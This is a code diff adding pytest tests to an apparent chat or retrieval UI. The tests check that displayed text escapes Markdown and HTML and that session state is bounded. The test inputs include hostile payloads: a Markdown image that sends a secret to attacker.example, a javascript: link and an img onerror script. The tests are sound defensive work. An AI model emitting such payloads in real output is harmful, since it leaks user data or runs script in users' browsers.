@@ -54,6 +54,37 @@ def test_sources_show_n_file_section_passage_and_flagged_values_escaped():
     assert "No passages" in sources_markdown({"sources": [], "refused": True})
 
 
+@pytest.mark.parametrize("hostile", [
+    "![pixel](https://attacker.example/p.png?q=secret)",
+    "[click me](javascript:alert(1))",
+    "<img src=x onerror=alert(1)>",
+    "[ref]: https://attacker.example/",
+])
+def test_no_markup_link_or_image_forms_from_shown_text(hostile):
+    shown = shown_text(f"Plus costs $4.99 [1]. {hostile}")
+    assert "[" not in shown and "<" not in shown  # no Markdown link/image syntax, no tag
+    assert html.unescape(shown) == f"Plus costs $4.99 [1]. {hostile}"  # nothing lost for API clients
+    md = sources_markdown({"sources": [{"n": 1, "source": "a`](x)`.md", "section": "", "score": 0.5,
+                                        "cited": True, "text": hostile}]})
+    assert md.count("`") == 2  # a backtick in a file name cannot end the code span early
+    assert "[" not in md.split("\n> ", 1)[1]  # the passage itself
+
+
+def test_history_is_unescaped_for_the_chain():
+    shown = [{"role": "user", "content": shown_text("Is A&B <fast>? [1]")}]
+    assert history_messages(shown) == [{"role": "user", "content": "Is A&B <fast>? [1]"}]
+
+
+def test_per_session_state_is_bounded():
+    from ui.page import _Recent
+
+    recent = _Recent(size=3)
+    for i in range(10):
+        recent[f"s{i}"] = i
+    recent["s7"] = 70  # touched again: kept as the most recent
+    assert list(recent) == ["s8", "s9", "s7"] and recent["s7"] == 70
+
+
 def test_history_accepts_api_strings_and_ui_part_lists():
     history = [{"role": "user", "content": "hi"},
                {"role": "assistant", "content": [{"type": "text", "text": "Hello"}, {"type": "text", "text": "there"}]},
